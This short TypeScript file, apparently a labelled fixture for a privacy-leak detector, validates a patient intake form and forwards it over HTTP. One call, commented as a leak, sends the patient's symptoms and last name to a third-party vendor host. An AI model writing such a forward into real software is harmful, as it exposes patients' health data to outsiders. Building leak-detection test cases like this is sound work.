import { z } from 'zod';
import axios from 'axios';

export const intakeSchema = z.object({ firstName: z.string(), lastName: z.string(), dateOfBirth: z.string(), symptoms: z.string() });
export type Intake = z.infer<typeof intakeSchema>;

export async function forward(intake: Intake): Promise<void> {
  await axios.post('https://ehr.lakeside.test/intake', intake); // ok
  await axios.post('https://forms.vendor.example/intake', { symptoms: intake.symptoms, name: intake.lastName }); // leak
  await axios.post('https://forms.vendor.example/metrics', { fields: Object.keys(intake).length }); // ok
}
